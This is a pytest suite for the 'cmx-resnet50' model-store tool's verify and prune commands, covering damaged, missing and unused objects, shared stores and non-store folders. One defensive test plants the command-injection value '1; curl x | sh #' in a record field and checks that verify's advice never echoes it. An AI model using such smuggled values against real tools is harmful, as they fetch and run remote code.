"""``verify`` and ``prune``: damage is reported with its fix, used objects stay."""

from __future__ import annotations

import json
import os
import re
import shlex
import time
from pathlib import Path
from typing import Any

import pytest

from cmx_resnet50.digests import digest_file
from tests.harness.artifacts import delivered
from tests.harness.cm import CM

TOOL = "cmx-resnet50"
ANY = {"CM_RESNET50_ACCEPT_ANY": "yes"}


def tool(cm: CM, *arguments: str) -> Any:
    result = cm.command(TOOL, *arguments, "--json")
    assert result.ok, result.text
    return json.loads(result.out)


def data(cm: CM, content: bytes) -> Path:
    """Return the object that has these bytes."""
    (path,) = (p for p in cm.repos.rglob("objects/*/*/data") if p.read_bytes() == content)
    return path


def flip(path: Path) -> None:
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 1
    path.chmod(0o644)
    path.write_bytes(content)


@pytest.mark.parametrize(
    ("request_text", "artifact"),
    [
        ("_onnx,_opset-8", "onnx-opset-8"),
        ("_ncnn", "ncnn-param"),
        ("_tflite", "tflite-argmax"),
    ],
)
def test_verify_names_the_damaged_object_and_the_command_that_fixes_it(
    cm: CM, served: dict[str, Path], request_text: str, artifact: str
) -> None:
    assert cm.command(TOOL, "prefetch", request_text, "_pytorch").ok
    assert all(row["state"] == "valid" for row in tool(cm, "verify"))
    content = delivered(served[artifact])
    path = data(cm, content)
    flip(path)
    result = cm.command(TOOL, "verify")
    assert result.code == 1
    assert sum(line.startswith("damaged ") for line in result.out.splitlines()) == 1
    (advice,) = result.err.splitlines()
    assert path.parent.name[:12] in advice
    command = shlex.split(advice[advice.index(f"{TOOL} prefetch") :])
    assert cm.command(*command).ok
    assert path.read_bytes() == content
    assert cm.command(TOOL, "verify").ok


def test_verify_makes_no_command_of_a_hostile_record(cm: CM, served: dict[str, Path]) -> None:
    assert cm.command(TOOL, "prefetch", "_onnx,_opset-8").ok
    path = data(cm, delivered(served["onnx-opset-8"]))
    record = path.with_name("record.json")
    content = json.loads(record.read_text(encoding="utf-8"))
    content["batch"] = "1; curl x | sh #"
    record.chmod(0o644)
    record.write_text(json.dumps(content), encoding="utf-8")
    flip(path)
    for flag in ("", "--json"):
        result = cm.command(TOOL, "verify", *filter(None, [flag]))
        assert result.code == 1
        assert "curl" not in result.text and "batch_size" not in result.text


def test_verify_sees_a_lost_object_and_one_of_unknown_origin(
    cm: CM, served: dict[str, Path]
) -> None:
    import onnx

    model = onnx.load(served["onnx-opset-11"])
    model.producer_name = "somebody"
    own = cm.cwd / "own.onnx"
    onnx.save(model, own)
    taken = cm.command(TOOL, "get", "--checkpoint", "own.onnx", env=ANY)
    assert taken.ok, taken.text
    data(cm, own.read_bytes()).unlink()
    result = cm.command(TOOL, "verify", "--json")
    assert result.code == 1
    (row,) = json.loads(result.out)
    assert row["state"] == "missing"
    assert "source is not recorded" in row["fix"]


def test_verify_of_no_store_is_empty(cm: CM) -> None:
    assert tool(cm, "verify") == []


def test_prune_removes_what_nothing_uses_and_only_when_told(
    cm: CM, served: dict[str, Path]
) -> None:
    assert cm.command(TOOL, "prefetch", "_pytorch").ok
    assert cm.command(TOOL, "get", "_ncnn", "--to", "models").ok
    assert cm.get("onnx").ok
    unused = delivered(served["pytorch-fp32"])
    path = data(cm, unused)
    report = tool(cm, "prune")
    assert not report["applied"]
    assert [row["file"] for row in report["unused"]] == ["resnet50-19c8e357.pth"]
    assert report["unused"][0]["bytes"] == len(unused)
    users = {row["file"]: row["used"] for row in report["used"]}
    named = str(cm.cwd / "models/resnet50_v1.bin")
    assert users["resnet50_v1.bin"] == [{"engine": None, "by": named}]
    assert users["resnet50_v1.onnx"][0]["engine"] == "CM"
    assert "/local/cache/" in users["resnet50_v1.onnx"][0]["by"]
    shown = cm.command(TOOL, "prune")
    assert "prune --apply" in shown.err
    assert path.exists()

    applied = cm.command(TOOL, "prune", "--apply")
    assert applied.ok, applied.text
    assert not path.exists()
    assert tool(cm, "prune")["unused"] == []
    assert cm.command(TOOL, "get", "_ncnn", "--offline").ok
    assert cm.get("onnx", offline=True).ok
    assert cm.command(TOOL, "get", "_pytorch", "--offline").code == 4


def test_prune_names_every_user_and_counts(cm: CM, served: dict[str, Path]) -> None:
    for folder in ("one", "two"):
        assert cm.command(TOOL, "get", "_pytorch", "--to", folder).ok
    shown = cm.command(TOOL, "prune").out
    for folder in ("one", "two"):
        assert f"by {cm.cwd / folder / 'resnet50-19c8e357.pth'}\n" in shown
    assert shown.endswith("1 file stays\n")
    assert cm.command(TOOL, "get", "_tflite", "--to", "one").ok
    shown = cm.command(TOOL, "prune").out
    assert "by resnet50_v1.tflite, which was unpacked from it\n" in shown
    assert shown.endswith("3 files stay\n")
    (cm.cwd / "one" / "resnet50_v1.tflite").unlink()
    report = tool(cm, "prune", "--apply")
    gone = {row["file"] for row in report["unused"] if row["kind"] == "object"}
    assert gone == {"resnet50_v1.tflite", "resnet50_v1.tflite.gz"}


def test_prune_after_the_last_entry_is_gone(cm: CM, served: dict[str, Path]) -> None:
    assert cm.get("onnx").ok
    assert cm.run("rm", "cache", "--tags=ml-model,resnet50", "-f").ok
    (row,) = (row for row in tool(cm, "prune")["unused"] if row["kind"] == "object")
    assert row["sha256"] == digest_file(served["onnx-opset-11"]).sha256


def test_a_place_that_now_holds_another_file_is_no_use(cm: CM) -> None:
    assert cm.command(TOOL, "get", "_onnx,_opset-8", "--to", "models").ok
    assert cm.command(TOOL, "get", "_onnx", "--to", "models").ok
    report = tool(cm, "prune")
    assert len(report["used"]) == 1
    (row,) = (row for row in report["unused"] if row["kind"] == "object")
    assert row["sha256"] != report["used"][0]["sha256"]


def test_a_link_that_the_store_does_not_know_counts(cm: CM, served: dict[str, Path]) -> None:
    assert cm.command(TOOL, "prefetch", "_pytorch").ok
    own = cm.cwd / "own.pth"
    own.hardlink_to(data(cm, delivered(served["pytorch-fp32"])))
    assert tool(cm, "prune")["unused"] == []
    own.unlink()
    assert len(tool(cm, "prune", "--apply")["unused"]) == 1


def test_a_copy_on_another_file_system_counts(cm: CM, served: dict[str, Path]) -> None:
    shared = Path("/dev/shm")
    if not shared.is_dir() or shared.stat().st_dev == cm.repos.stat().st_dev:
        pytest.skip("no second file system here")
    folder = shared / f"cmx-resnet50-{cm.home.parent.parent.name}"
    try:
        assert cm.command(TOOL, "get", "_pytorch", "--to", str(folder)).ok
        assert tool(cm, "prune")["unused"] == []
    finally:
        (folder / "resnet50-19c8e357.pth").unlink(missing_ok=True)
        folder.rmdir()
    assert [row["kind"] for row in tool(cm, "prune")["unused"]] == ["object", "placement"]


def test_the_record_of_a_place_that_is_gone_is_named_so(cm: CM) -> None:
    assert cm.command(TOOL, "get", "_pytorch", "--to", "models").ok
    assert cm.command(TOOL, "get", "_pytorch", "--to", "kept").ok
    place = cm.cwd / "models" / "resnet50-19c8e357.pth"
    place.unlink()
    for word, options in (("unused", ()), ("removed", ("--apply",))):
        result = cm.command(TOOL, "prune", *options)
        (line,) = (line for line in result.out.splitlines() if "record of" in line)
        assert re.match(rf"{word} +record of {place}, which is gone  ", line)


COMMANDS = (
    "prune --apply",
    "prune",
    "verify",
    "list",
    "get _pytorch",
    "get _pytorch --to out",
    "prefetch _pytorch",
    "bundle export out.tar _pytorch",
    "bundle export out.tar",
    "bundle import bundle.tar",
    "store init work",
)


def test_a_folder_that_is_no_store_is_left_alone_by_every_command(cm: CM) -> None:
    """Also by a run of ``cm``; what the folder holds has the names that a store has."""
    assert cm.command(TOOL, "prefetch", "_pytorch").ok
    assert cm.command(TOOL, "bundle", "export", "bundle.tar").ok
    work = cm.cwd / "work"
    names = (
        "incoming/a/partial",
        "temporary/.cmx-01234567-a-1-1-0123abcd",
        "views/x/y",
        "locks/a.lock",
    )
    past = time.time() - 30 * 24 * 3600
    for name in names:
        (work / name).parent.mkdir(parents=True)
        (work / name).write_text("precious")
        os.utime(work / name, (past, past))
        os.utime((work / name).parent, (past, past))
    before = sorted(work.rglob("*"))
    env = {"CM_RESNET50_STORE": str(work)}
    for arguments in COMMANDS:
        result = cm.command(TOOL, *arguments.split(), env=env)
        assert result.code == 1, (arguments, result.text)
        assert str(work) in result.err
        assert "not a store" in result.err
        assert "Traceback" not in result.text
    result = cm.get("pytorch", env=env)
    assert result.code == 1
    assert "not a store" in result.err
    assert sorted(work.rglob("*")) == before
    assert not (cm.cwd / "out").exists()


def test_a_store_that_lost_its_mark_is_marked_again(cm: CM) -> None:
    assert cm.command(TOOL, "prefetch", "_pytorch").ok
    root = cm.repos / "resnet50-store"
    mark, tag = root / "cmx-resnet50-store.json", root / "CACHEDIR.TAG"
    assert tag.read_bytes().startswith(b"Signature: 8a477f597d28d172789f06886806bc55")
    text = mark.read_text()
    mark.unlink()
    (root / "views").mkdir()  # as a store of before the mark had
    refused = cm.command(TOOL, "get", "_pytorch", "--offline", "--to", "out")
    assert refused.code == 1
    command = shlex.split(refused.err[refused.err.index(f"{TOOL} store init") :])
    assert cm.command(*command).ok
    assert mark.read_text() == text
    assert cm.command(TOOL, "get", "_pytorch", "--offline", "--to", "out").ok
    mark.write_text(text.replace('"version": 1', '"version": 2'))
    newer = cm.command(TOOL, "get", "_pytorch", "--offline", "--to", "out")
    assert newer.code == 1
    assert "version 2" in newer.err


def test_a_store_for_a_group(cm: CM, served: dict[str, Path]) -> None:
    """Whoever makes it is a member, too: it is read through a store of one's own."""
    group = cm.cwd / "group"
    made = cm.command(TOOL, "store", "init", "--shared", "group")
    assert made.ok, made.text
    assert f"{group} is a store that the group " in made.out
    assert group.stat().st_mode & 0o7777 == 0o2775
    env = {"CM_RESNET50_STORE": str(group)}
    got = cm.command(TOOL, "get", "_pytorch", env=env)
    assert got.ok, got.text
    content = delivered(served["pytorch-fp32"])
    copies = [p for p in cm.cwd.parent.parent.rglob("data") if p.read_bytes() == content]
    assert sorted(p.is_relative_to(group) for p in copies) == [False, True]
    again = cm.get("pytorch", env=env, offline=True)
    assert again.ok, again.text
    assert again.env["CM_ML_MODEL_VERIFIED"] == "yes"
    listed = json.loads(cm.command(TOOL, "verify", "--json", env=env).out)
    assert [row["state"] for row in listed] == ["valid", "valid"]
    used = json.loads(cm.command(TOOL, "prune", "--json", env=env).out)
    assert used["unused"] == []
    assert len(used["used"]) == 2
